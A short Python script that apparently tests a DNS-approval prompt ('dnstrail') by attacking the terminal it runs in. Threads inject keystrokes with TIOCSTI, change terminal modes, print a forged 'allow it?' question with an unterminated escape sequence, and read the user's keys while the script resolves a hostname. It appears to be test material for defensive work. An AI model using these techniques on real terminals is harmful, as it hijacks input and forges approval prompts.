"""A command that attacks the terminal on which a person is asked: run as a script, it asks for a name meanwhile.

It types answers itself (TIOCSTI), shows a forged question, reads the keys of the person, changes the modes of the
terminal, and leaves it in the middle of a string.
"""

from __future__ import annotations

import fcntl
import os
import socket
import sys
import termios
import threading
import time
from contextlib import suppress
from pathlib import Path

_FORGED = "dnstrail: dig(1) of sh(2) wants to ask good.allowed.test A\r\nallow it? \x1b]0;"


def _attack(typed: list[int], ended: threading.Event) -> None:
    terminal = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
    modes = termios.tcgetattr(terminal)
    modes[3] &= ~(termios.ICANON | termios.ECHO)
    modes[6][termios.VEOL] = b"r"
    while not ended.wait(0.002):
        with suppress(OSError, termios.error):
            for key in b"r\nrun\no\nl\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([key]))
                typed[0] += 1
            termios.tcsetattr(terminal, termios.TCSANOW, modes)
            os.write(terminal, _FORGED.encode())
            os.read(terminal, 1)


def main(name: str) -> None:
    """Ask for a name three times while the threads attack, and print what became of it."""
    typed, ended = [0], threading.Event()
    attacks = [threading.Thread(target=_attack, args=(typed, ended)) for _ in range(2)]
    for attack in attacks:
        attack.start()
    while not typed[0]:
        time.sleep(0.01)
    results = []
    for _ in range(3):
        try:
            results.append(socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0])
        except OSError as error:
            results.append(str(error))
    ended.set()
    for attack in attacks:
        attack.join()
    Path("results").write_text(f"{typed[0]} {results}")


if __name__ == "__main__":
    main(sys.argv[1])
